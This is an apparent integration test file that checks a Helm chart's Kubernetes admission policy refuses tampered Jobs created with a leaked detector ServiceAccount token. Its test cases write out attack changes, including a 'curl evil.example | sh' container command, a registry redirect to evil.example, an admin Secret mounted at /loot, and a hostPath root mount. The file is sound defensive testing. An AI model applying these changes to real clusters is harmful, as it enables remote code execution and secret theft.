"""Attack: a leaked detector token creates a Job that is not the chart's retrainer.

The detector's account may create Jobs; RBAC cannot say which. The chart's ValidatingAdmissionPolicy must refuse any
Job whose pod differs from the chart's retrainer pod in anything but what the launcher sets: the retrainer image
started with settings of the attacker's (`MITIGA_HELM_EXTRA_ARGS` would let it `helm upgrade` the inference
Deployment to any image), a Secret mounted or read into the environment, another command or argument, a lifecycle
hook, a pod that passes for the detector in the NetworkPolicies' eyes, or a thousand pods at once. Each change is
tried on the real API server, as the detector's ServiceAccount."""

from __future__ import annotations

import copy
from typing import TYPE_CHECKING, Any

import pytest
import yaml

from mitiga_core import retrain_request
from mitiga_core.jobs import JobSpec
from tests.k8s.cluster import NAMESPACE, client_as, raw

if TYPE_CHECKING:
    from collections.abc import Callable

pytestmark = [pytest.mark.integration, pytest.mark.slow]
LETTER = "retrainer pod to the letter"


@pytest.fixture(scope="module")
def detector_api(control_plane, admin, release):  # type: ignore[no-untyped-def]
    return client_as(control_plane, admin, f"{release}-mitiga-detector")


@pytest.fixture(scope="module")
def launched(admin, release, detector_api) -> dict[str, Any]:  # type: ignore[no-untyped-def]
    """A Job as the detector's launcher renders it from the chart's template for a real request."""
    from kubernetes import client

    from mitiga_core.jobs.kubernetes import KubernetesJobLauncher

    config_map = raw(client.CoreV1Api(admin).read_namespaced_config_map(
        f"{release}-mitiga-job-template", NAMESPACE, _preload_content=False))
    launcher = KubernetesJobLauncher(yaml.safe_load(config_map["data"]["job.yaml"]), NAMESPACE, detector_api,
                                     ttl_after_finished_s=600)
    request = '{"modelName":"lstm","requestId":"lstm-attack"}'
    return launcher.render(JobSpec(name="placeholder", args=["mitiga_retrainer"], env={retrain_request.ENV: request},
                                   labels={"mitiga.io/model": "lstm", "mitiga.io/trigger": "manual"}))


def create(detector_api: Any, job: dict[str, Any]) -> None:
    from kubernetes import client

    client.BatchV1Api(detector_api).create_namespaced_job(NAMESPACE, job)


def test_the_launchers_job_is_admitted(detector_api, launched) -> None:  # type: ignore[no-untyped-def]
    job = copy.deepcopy(launched)
    job["metadata"]["name"] = "lstm-legit"
    create(detector_api, job)


def _container(job: dict[str, Any]) -> dict[str, Any]:
    container: dict[str, Any] = job["spec"]["template"]["spec"]["containers"][0]
    return container


CHANGES: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
    # what only the whole-pod comparison catches (a change the other policy refuses too may be reported by either)
    "env": (lambda job: _container(job)["env"].append(
        {"name": "MITIGA_HELM_EXTRA_ARGS", "value": "--set image.registry=evil.example"}), LETTER),
    "env_from_secret": (lambda job: _container(job)["envFrom"].append(
        {"secretRef": {"name": "demo-mitiga-admin"}}), LETTER),
    "secret_volume": (lambda job: (
        job["spec"]["template"]["spec"]["volumes"].append({"name": "loot", "secret": {"secretName": "demo-mitiga-admin"}}),
        _container(job)["volumeMounts"].append({"name": "loot", "mountPath": "/loot"})), LETTER),
    "mount_moved": (lambda job: _container(job)["volumeMounts"].__setitem__(
        0, {"name": "tmp", "mountPath": "/var/lib/mitiga/models"}), LETTER),
    "other_arguments": (lambda job: _container(job).__setitem__(
        "args", ["mitiga_retrainer", "--model", "lstm", "--data-start", "2030-01-01"]), LETTER),
    "run_as_root": (lambda job: job["spec"]["template"]["spec"]["securityContext"].update(
        {"runAsUser": 0, "runAsNonRoot": False}), LETTER),
    "resources": (lambda job: _container(job).__setitem__(
        "resources", {"requests": {"cpu": "64", "memory": "200Gi"}}), LETTER),
    "lifecycle_hook": (lambda job: _container(job).__setitem__(
        "lifecycle", {"postStart": {"exec": {"command": ["sh", "-c", "id"]}}}), LETTER),
    "pinned_to_a_node": (lambda job: job["spec"]["template"]["spec"].__setitem__(
        "nodeName", "kwok-node-0"), LETTER),
    "passes_for_the_detector": (lambda job: job["spec"]["template"]["metadata"]["labels"].__setitem__(
        "app.kubernetes.io/component", "detector"), "labels its pod as the chart does"),
    "annotation": (lambda job: job["spec"]["template"]["metadata"]["annotations"].__setitem__(
        "container.apparmor.security.beta.kubernetes.io/retrainer", "unconfined"), "retrain request only"),
}


STRICT_CHANGES: dict[str, Callable[[dict[str, Any]], None]] = {
    "image": lambda job: _container(job).__setitem__("image", "docker.io/library/busybox:latest"),
    "service_account": lambda job: job["spec"]["template"]["spec"].__setitem__("serviceAccountName", "default"),
    "module": lambda job: _container(job).__setitem__("args", ["http.server"]),
    "host_path": lambda job: job["spec"]["template"]["spec"]["volumes"].append(
        {"name": "host", "hostPath": {"path": "/"}}),
    "privileged": lambda job: _container(job)["securityContext"].update({"allowPrivilegeEscalation": True}),
    "init_container": lambda job: job["spec"]["template"]["spec"].__setitem__(
        "initContainers", [{"name": "x", "image": "docker.io/library/busybox:latest"}]),
    "command": lambda job: _container(job).__setitem__("command", ["sh", "-c", "curl evil.example | sh"]),
    "many_pods": lambda job: job["spec"].update({"parallelism": 50, "completions": 50}),
}
STRICT = {"image": "runs the retrainer image", "service_account": "runs as the retrainer's ServiceAccount",
          "module": "runs mitiga_retrainer", "command": "runs mitiga_retrainer", "host_path": "has no host access",
          "privileged": "runs nothing privileged", "init_container": "has no other containers",
          "many_pods": "runs one pod"}
"""What the policy without a parameter refuses on its own, and how it says so."""


@pytest.mark.parametrize("change", sorted(CHANGES))
def test_a_job_that_differs_from_the_chart_in_anything_else_is_refused(detector_api, launched, change: str) -> None:  # type: ignore[no-untyped-def]
    from kubernetes.client import ApiException

    job = copy.deepcopy(launched)
    job["metadata"]["name"] = f"evil-{change.replace('_', '-')}"
    alter, says = CHANGES[change]
    alter(job)
    with pytest.raises(ApiException) as refused:
        create(detector_api, job)
    assert refused.value.status in (403, 422) and says in refused.value.body, refused.value.body


def test_without_its_pod_template_the_namespace_still_creates_jobs_and_the_detector_still_only_the_retrainer(
        admin, detector_api, launched, release) -> None:  # type: ignore[no-untyped-def]
    """An install or an uninstall half way (or a PodTemplate deleted by hand) must not refuse every Job of the
    namespace, nor open the door to the detector's account: the policy without a parameter still holds."""
    from kubernetes import client
    from kubernetes.client import ApiException

    from tests.conftest import wait_for

    core, batch = client.CoreV1Api(admin), client.BatchV1Api(admin)
    name = f"{release}-mitiga-retrainer-pod"
    saved = raw(core.read_namespaced_pod_template(name, NAMESPACE, _preload_content=False))
    core.delete_namespaced_pod_template(name, NAMESPACE)
    try:
        other = copy.deepcopy(launched)
        other["metadata"] = {"name": "someone-elses-job"}
        other["spec"]["template"]["metadata"] = {"labels": {"app": "batch-report"}}
        _container(other).update({"image": "docker.io/library/busybox:latest", "command": ["true"], "args": []})
        _container(other).pop("env", None)

        def admitted() -> bool:
            try:
                batch.create_namespaced_job(NAMESPACE, other)
            except ApiException as exc:
                assert "no params found" in str(exc.body), exc.body
                return False
            return True

        wait_for(admitted, 30, "an admin's Job admitted while the PodTemplate is gone")
        for change, says in STRICT.items():
            evil = copy.deepcopy(launched)
            evil["metadata"]["name"] = f"evil-strict-{change.replace('_', '-')}"
            STRICT_CHANGES[change](evil)
            with pytest.raises(ApiException) as refused:
                create(detector_api, evil)
            assert says in refused.value.body, (change, refused.value.body)
    finally:
        template = {k: saved[k] for k in ("apiVersion", "kind", "template")}
        template["metadata"] = {"name": name, "labels": saved["metadata"].get("labels", {})}
        core.create_namespaced_pod_template(NAMESPACE, template)
